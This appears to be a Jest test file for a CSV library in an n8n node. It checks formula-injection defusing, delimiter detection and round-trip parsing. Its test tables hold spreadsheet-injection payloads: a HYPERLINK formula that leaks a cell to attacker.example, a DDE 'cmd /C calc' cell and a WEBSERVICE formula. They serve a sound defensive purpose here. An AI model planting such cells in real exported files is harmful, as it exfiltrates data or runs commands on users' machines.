/**
 * Formula defusing and the result file's forms (delimiter, byte order mark), tested directly
 * (pure library code): which cells get an apostrophe, that the rule is undone exactly, and that
 * every form reads back cell for cell with the package's own reader and with csv-parse (the
 * parser n8n's Extract From File uses), the delimiter and the byte order mark found again.
 */
import { readFileSync } from 'fs';
import path from 'path';

import { parse as oracleParse } from 'csv-parse/sync';

import { CsvParser, parseCsv } from '../../nodes/shared/csv/csv';
import { CsvStream, type CsvDelimiter } from '../../nodes/shared/csv/csvWriter';
import { defuseFormula, needsDefusing, undefuseFormula } from '../../nodes/shared/csv/formulas';
import { randomFraction } from '../sandbox/random';

/** Each cell and whether a result file writes it with an apostrophe in front. */
export const FORMULA_TABLE: Array<[string, boolean]> = [
	['=1+2', true],
	['=HYPERLINK("http://attacker.example/?leak="&B2,"Click for details")', true],
	['+1+2', true],
	['-1+A1', true],
	['@SUM(A1:A9)', true],
	['\t=1+2', true],
	['\r=1+2', true],
	['\n=1+2', true],
	['\0=HYPERLINK("http://x.example/?"&B2)', true],
	['=', true],
	['-', true],
	['--', true],
	['- call back on Monday', true],
	['-x', true],
	['+', true],
	['@', true],
	['@user', true],
	['+1 415 555 2671 ext 3', true],
	['-2+3*A1', true],
	["-cmd|' /C calc'!A0", true],
	["'=1+2", true],
	["''@x", true],
	['=1+2\nsecond line', true],
	// Signed numbers and phone numbers: no letter, no quote, nothing a formula could harm with.
	['-12.5', false],
	['+12.5', false],
	['-12,5', false],
	['-0', false],
	['+14152007986', false],
	['+1 415 555 2671', false],
	['+1-415-555-2671', false],
	['+1 (415) 555-2671', false],
	['+44 20 7183 8750', false],
	['- 5', false],
	// Amounts and percentages: LibreOffice shows them as numbers.
	['-50%', false],
	['+12.5 %', false],
	['-$12.50', false],
	['-€12.50', false],
	['-12.50 €', false],
	// A minus before anything but a number: a date LibreOffice shows as #VALUE!, arithmetic, a list.
	['-2024-01-05', true],
	['-1-2', true],
	['-(12)', true],
	['-1/2', true],
	// Not starting with a trigger.
	['2024-01-05', false],
	['05/01/2024', false],
	['12:30', false],
	['1+2', false],
	[' =1+2', false],
	['＝1+2', false],
	["'x", false],
	["'", false],
	['', false],
	['Zoë Ångström', false],
	['plain text', false],
	['"quoted"', false],
];

/**
 * Cells holding a separator or a line break, and how they are written: a spreadsheet that splits
 * the file on another delimiter than its own makes a cell of what follows each one.
 */
export const INNER_TABLE: Array<[string, string]> = [
	['Acme;=WEBSERVICE(CHAR(104)&B3);', "Acme;'=WEBSERVICE(CHAR(104)&B3);"],
	['Doe,=HYPERLINK("http://x.example/?"&B2),', 'Doe,\'=HYPERLINK("http://x.example/?"&B2),'],
	['x\t=1+1', "x\t'=1+1"],
	['a|@SUM(A1)', "a|'@SUM(A1)"],
	['note\n-A1', "note\n'-A1"],
	['\t=1', "'\t'=1"],
	["a;'=1", "a;''=1"],
	// Left alone: numbers after a separator, a leading space, a line break before plain text.
	['-12,50', '-12,50'],
	['x;-5;+1 415 555 2671', 'x;-5;+1 415 555 2671'],
	['a; =1', 'a; =1'],
	['line one\r\nline two', 'line one\r\nline two'],
	['Doe, Jane', 'Doe, Jane'],
];

describe('defuseFormula after a separator inside a cell', () => {
	it.each(INNER_TABLE.map(([cell, written]) => [JSON.stringify(cell), cell, written] as const))(
		'%s',
		(_shown, cell, written) => {
			expect(defuseFormula(cell)).toBe(written);
			expect(needsDefusing(cell)).toBe(written !== cell);
			expect(undefuseFormula(written)).toBe(cell);
		},
	);
});

describe('needsDefusing: which cells get an apostrophe', () => {
	it.each(FORMULA_TABLE.map(([cell, defused]) => [JSON.stringify(cell), cell, defused] as const))(
		'%s',
		(_shown, cell, defused) => {
			expect(needsDefusing(cell)).toBe(defused);
			// A leading tab, CR or LF is a separator too: the formula after it gets its own apostrophe (INNER_TABLE).
			expect(defuseFormula(cell)).toBe(defused ? `'${cell.replace(/^([\t\r\n])=/, "$1'=")}` : cell);
		},
	);

	it('is undone exactly, for the table and for random cells of apostrophes, triggers and digits', () => {
		for (const [cell] of FORMULA_TABLE) expect(undefuseFormula(defuseFormula(cell))).toBe(cell);
		const random = randomFraction(23);
		const alphabet = [
			"'",
			'=',
			'+',
			'-',
			'@',
			'\t',
			'\r',
			'\n',
			'\0',
			',',
			';',
			'|',
			'1',
			' ',
			'.',
			'a',
			'(',
			'"',
			'%',
			'€',
		];
		for (let round = 0; round < 20000; round++) {
			let cell = '';
			const length = Math.floor(random() * 8);
			for (let at = 0; at < length; at++) cell += alphabet[Math.floor(random() * alphabet.length)];
			const written = defuseFormula(cell);
			expect(undefuseFormula(written)).toBe(cell);
		}
	});
});

describe("the docs' way to undo the rule in a Code node", () => {
	it('gives back every cell as undefuseFormula does', () => {
		const docs = readFileSync(path.join(__dirname, '../../docs/bulk-csv.md'), 'utf8');
		const code = /```js\n(const needs = [^\n]+\nconst original = [^\n]+)\n```/.exec(docs)?.[1];
		expect(code).toBeDefined();
		// The two lines as a function of the cell `c`, as a Code node would run them.
		const undo = new Function('c', `${code}\nreturn original;`) as (cell: string) => string;
		const cells = [
			...FORMULA_TABLE.map(([cell]) => cell),
			...INNER_TABLE.map(([cell]) => cell),
			"'",
			"''",
			"'-12.5",
			"''=1",
			"'- 5",
			",'=1",
			"'\t''=1",
		];
		for (const cell of cells) {
			expect(undo(defuseFormula(cell))).toBe(cell);
			expect(undo(defuseFormula(cell))).toBe(undefuseFormula(defuseFormula(cell)));
		}
	});
});

const RECORDS: string[][] = [
	['name', 'note', 'phone'],
	...FORMULA_TABLE.map(([cell], index) => [
		`Lead ${index} Müller`,
		cell,
		index % 2 === 0 ? '+1 415 555 2671' : '-12.5',
	]),
	...INNER_TABLE.map(([cell], index) => [`Lead ${index}`, cell, '-50%']),
	['a;b', 'c\td', 'e,f'],
	['  spaced  ', '"', 'line\r\nbreak'],
];

async function written(
	delimiter: CsvDelimiter,
	byteOrderMark: boolean,
	defuseFormulas: boolean,
): Promise<{ bytes: Buffer; defused: number }> {
	const stream = new CsvStream({ delimiter, byteOrderMark, defuseFormulas });
	const parts: Buffer[] = [];
	const reading = (async () => {
		for await (const chunk of stream.chunks()) parts.push(chunk);
	})();
	for (const record of RECORDS) await stream.write(record);
	await stream.end();
	await reading;
	return { bytes: Buffer.concat(parts), defused: stream.writer.defused };
}

const VARIANTS = ([',', ';', '\t'] as const).flatMap((delimiter) =>
	[true, false].flatMap((byteOrderMark) =>
		[true, false].map(
			(defuse) => [JSON.stringify(delimiter), byteOrderMark, defuse, delimiter] as const,
		),
	),
);

describe('a result file in every form reads back exactly', () => {
	it.each(VARIANTS)(
		'delimiter %s, byte order mark %s, defused %s',
		async (_shown, byteOrderMark, defuse, delimiter) => {
			const { bytes, defused } = await written(delimiter, byteOrderMark, defuse);
			const expected = defuse ? RECORDS.map((record) => record.map(defuseFormula)) : RECORDS;
			expect(defused).toBe(
				defuse
					? FORMULA_TABLE.filter(([, yes]) => yes).length +
							INNER_TABLE.filter(([cell, written]) => cell !== written).length
					: 0,
			);
			expect(bytes.subarray(0, 3).equals(Buffer.from([0xef, 0xbb, 0xbf]))).toBe(byteOrderMark);
			// The package's reader, the delimiter detected from the header row.
			const own = parseCsv(bytes, { delimiter: 'detect' }).map((row) => row.fields);
			expect(own).toEqual(expected);
			// csv-parse, as n8n's Extract From File reads a CSV file (the delimiter given, a BOM skipped).
			expect(oracleParse(bytes, { bom: true, delimiter })).toEqual(expected);
			if (defuse) expect(expected.map((record) => record.map(undefuseFormula))).toEqual(RECORDS);
		},
	);
});

describe('the delimiter, from a sep= line or the first rows together', () => {
	const read = (text: string) => {
		const parser = new CsvParser(() => undefined, { delimiter: 'detect' });
		parser.push(Buffer.from(text));
		parser.end();
		return String.fromCharCode(parser.delimiter);
	};
	it.each([
		['a comma file', 'name,email\nAnn;x,a@b.c\nBob,b@b.c\n', ','],
		['a comma file with a semicolon in its header', 'name,note;x\nAnn,y\n', ','],
		[
			'a semicolon file, as Excel writes it in most of Europe',
			'Name;E-Mail;Notiz\nMüller;m@x.de;"a, b"\n',
			';',
		],
		[
			'a semicolon file with commas in its header and a decimal comma',
			'Name, Vorname;Umsatz (EUR, netto);email\nMüller, Hans;12,50;h@x.de\n',
			';',
		],
		[
			'a headerless semicolon file with a decimal comma',
			'+4930123456;Müller;12,50\n+4930123457;Schulz;3,10\n',
			';',
		],
		[
			'a headerless semicolon file with a comma in a name',
			'+4930123456;Müller, Hans\n+4930123457;Schulz, Eva\n',
			';',
		],
		['a tab file with a comma in a name', '+4930123456\tDoe, Jane\n+4930123457\tRoe, Max\n', '\t'],
		['a tab file', 'name\temail\nAnn\ta@b.c\n', '\t'],
		['delimiters inside quotes do not count', '"a,b";"c,d"\n"e,f";g\n', ';'],
		['a quoted line break does not end a row', '"a\nb,c";d\ne;f\n', ';'],
		['one column', 'email\na@b.c\n', ','],
		[
			'a header of one column over rows of two',
			'Telefon\n+4930123456;Müller\n+4930123457;Schulz\n',
			';',
		],
		['a sep= line decides', 'sep=;\na,b;c\n', ';'],
		['a sep= line after a byte order mark, upper case', '\ufeffSEP=\t\r\na,b\tc\r\n', '\t'],
	])('%s', (_name, text, delimiter) => {
		expect(read(text)).toBe(delimiter);
	});

	it('a file two delimiters fit equally is refused, naming both', () => {
		expect(() => read('+4930123456;Müller,Hans\n+4930123457;Schulz,Eva\n')).toThrow(
			'its delimiter cannot be told from its first 2 rows: read with a comma or with a semicolon, each has 2 columns. Set Options > Delimiter to the one the file uses',
		);
	});

	it('a sep= line is skipped, its line counted; one the reader cannot follow, or against the one given, is refused', () => {
		const rows = parseCsv(Buffer.from('sep=;\r\nName;email\r\nAnn;a@b.c\r\n'), {
			delimiter: 'detect',
		});
		expect(rows.map((row) => [row.number, row.line, row.fields])).toEqual([
			[1, 2, ['Name', 'email']],
			[2, 3, ['Ann', 'a@b.c']],
		]);
		expect(
			parseCsv(Buffer.from('sep=;\na;b\n'), { delimiter: ';' }).map((row) => row.fields),
		).toEqual([['a', 'b']]);
		expect(() => parseCsv(Buffer.from('sep=|\na|b\n'), { delimiter: 'detect' })).toThrow(
			'its first line says sep=|, a delimiter this node cannot read',
		);
		expect(() => parseCsv(Buffer.from('sep=;\na;b\n'), { delimiter: ',' })).toThrow(
			'its first line says sep=; (semicolon), but Delimiter is comma',
		);
		// Not a sep= line: text after the delimiter, or no delimiter.
		expect(parseCsv(Buffer.from('sep=;x\n'), { delimiter: ',' }).map((row) => row.fields)).toEqual([
			['sep=;x'],
		]);
	});

	it('decides from rows past the first 64 KB chunk boundary the same as whole, byte by byte too', () => {
		let text = 'Name, Vorname;Umsatz (EUR, netto);email\n';
		for (let index = 0; index < 3000; index++)
			text += `"Müller, Hans ${index}";${index},50;h${index}@x.de\n`;
		const whole = parseCsv(Buffer.from(text), { delimiter: 'detect' }).map((row) => row.fields);
		expect(whole[1]).toEqual(['Müller, Hans 0', '0,50', 'h0@x.de']);
		const rows: string[][] = [];
		const parser = new CsvParser((row) => rows.push(row.fields), { delimiter: 'detect' });
		const bytes = Buffer.from(text);
		for (let at = 0; at < bytes.length; at += 977) parser.push(bytes.subarray(at, at + 977));
		parser.end();
		expect(rows).toEqual(whole);
	});

	it('detects the same whether the first record comes whole or a byte at a time, after a byte order mark', () => {
		const text = Buffer.from('\ufeffName;Notiz\r\n"Zoë; Ünal";"=1+2"\r\nBob;plain\r\n');
		const whole = parseCsv(text, { delimiter: 'detect' }).map((row) => row.fields);
		expect(whole).toEqual([
			['Name', 'Notiz'],
			['Zoë; Ünal', '=1+2'],
			['Bob', 'plain'],
		]);
		const rows: string[][] = [];
		const parser = new CsvParser((row) => rows.push(row.fields), { delimiter: 'detect' });
		for (const byte of text) parser.push(Uint8Array.of(byte));
		parser.end();
		expect(rows).toEqual(whole);
		expect(parser.byteOrderMark).toBe(true);
		expect(String.fromCharCode(parser.delimiter)).toBe(';');
	});
});
